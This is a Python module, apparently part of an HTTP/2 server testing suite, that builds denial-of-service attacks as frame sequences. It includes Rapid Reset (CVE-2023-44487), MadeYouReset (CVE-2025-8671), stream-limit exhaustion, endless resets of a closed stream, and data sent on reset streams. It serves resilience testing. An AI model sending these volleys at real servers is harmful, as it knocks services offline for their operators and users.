"""Streams that are reset as soon as the server has begun to work on them."""

from collections.abc import Callable

from bench.attacks import frames
from bench.attacks.attack import Attack, Target, Volley, greeting, repeated
from bench.attacks.frames import END_STREAM


def rapid_reset(target: Target) -> Attack:
    """Whole valid calls, each cancelled at once (CVE-2023-44487)."""

    def reset_call(stream: int) -> bytes:
        return target.call(stream) + frames.rst_stream(stream)

    return _once_for_each_stream(target, reset_call)


def rapid_reset_headers(target: Target) -> Attack:
    """Headers of valid calls, each cancelled before its message."""

    def reset_headers(stream: int) -> bytes:
        return target.opened(stream) + frames.rst_stream(stream)

    return _once_for_each_stream(target, reset_headers)


def made_you_reset(target: Target) -> Attack:
    """Valid calls, then a frame for which the server must reset them (CVE-2025-8671)."""

    def faulty_call(stream: int) -> bytes:
        return target.call(stream) + frames.window_update(stream, 0)

    return _once_for_each_stream(target, faulty_call)


def more_streams_than_allowed(target: Target) -> Attack:
    """Calls without a message, opened as fast as possible and never ended."""
    return _once_for_each_stream(target, target.opened)


def reset_of_closed_stream(target: Target) -> Attack:
    """RST_STREAM on one stream that has been reset already, endlessly."""
    return Attack(
        opening=greeting(target.opened(1)),
        volley=Volley.of(repeated(frames.rst_stream(1))),
    )


def data_on_reset_stream(target: Target) -> Attack:
    """DATA on streams that the client has reset; it must still count against the window."""

    def late_data(stream: int) -> bytes:
        opened = target.opened(stream) + frames.rst_stream(stream)
        return opened + frames.data(stream, bytes(64), END_STREAM)

    return _once_for_each_stream(target, late_data)


def _once_for_each_stream(target: Target, made: Callable[[int], bytes]) -> Attack:
    return Attack(volley=Volley.of(target.for_each_stream(made)), repeats=1)


ATTACKS = (
    rapid_reset,
    rapid_reset_headers,
    made_you_reset,
    more_streams_than_allowed,
    reset_of_closed_stream,
    data_on_reset_stream,
)
